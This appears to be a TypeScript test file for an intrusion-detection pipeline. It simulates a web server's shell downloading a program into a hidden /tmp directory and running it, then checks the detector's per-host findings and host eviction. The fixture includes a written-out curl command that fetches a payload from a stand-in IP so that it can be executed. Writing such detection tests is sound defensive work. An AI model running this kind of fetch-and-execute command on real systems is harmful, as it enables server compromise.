import type { Finding } from "@limpid/core";
import { expect, it } from "vitest";
import { Scene } from "../packages/detect/src/testing/scene.ts";
import { barePipeline } from "./support/pipeline.ts";

/** A web server's shell downloads a program, which runs at once or an hour later. */
function drop(host: string, filler: number, waitMs = 0): Scene {
  const scene = new Scene(host);
  const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", ["sh", "-c", "x"]);
  shell.fork().exec("/usr/bin/curl", "curl -o /tmp/.x/agent http://203.0.113.7/a").create("/tmp/.x/agent").exit();
  for (let index = 0; index < filler; index++) shell.create(`/var/lib/data/${index}`);
  scene.wait(waitMs);
  shell.chmod("/tmp/.x/agent");
  shell.fork().exec("/tmp/.x/agent").exit();
  return scene;
}

function judge(scenes: readonly Scene[], hosts?: number) {
  const findings: Finding[] = [];
  const pipeline = barePipeline((finding) => findings.push(finding), hosts === undefined ? {} : { limits: { hosts } });
  for (const scene of scenes) scene.events.forEach(pipeline.observe);
  pipeline.end();
  return { findings, counts: pipeline.counts };
}

it("keeps hosts apart: the same story on three hosts is three findings", () => {
  const { findings } = judge([drop("a", 0), drop("b", 0), drop("c", 0)]);
  expect(new Set(findings.map(({ host }) => host))).toEqual(new Set(["a", "b", "c"]));
  expect(new Set(findings.map(({ id }) => id)).size).toBe(3);
  expect(new Set(findings.map(({ score }) => score)).size).toBe(1);
});

it("shares one memory among hosts, counts what it lets go, and finds the drop on each, if need be without its creator", () => {
  const names = Array.from({ length: 300 }, (_, index) => `host-${index}`);
  const { findings, counts } = judge(names.map((name) => drop(name, 400)));
  expect(new Set(findings.map(({ host }) => host)).size).toBe(300);
  const [first] = judge([drop("alone", 400)]).findings;
  expect(first?.creator.basis).toBe("opener");
  expect(counts.hosts).toBe(300);
  expect(counts.livesEvicted).toBeGreaterThan(0);
});

it("closes the host it has known longest when there are too many, and says so", () => {
  const { findings, counts } = judge([drop("a", 0), drop("b", 0), drop("c", 0)], 2);
  expect(counts).toMatchObject({ hosts: 3, hostsEvicted: 1 });
  expect(findings).toHaveLength(3);
});
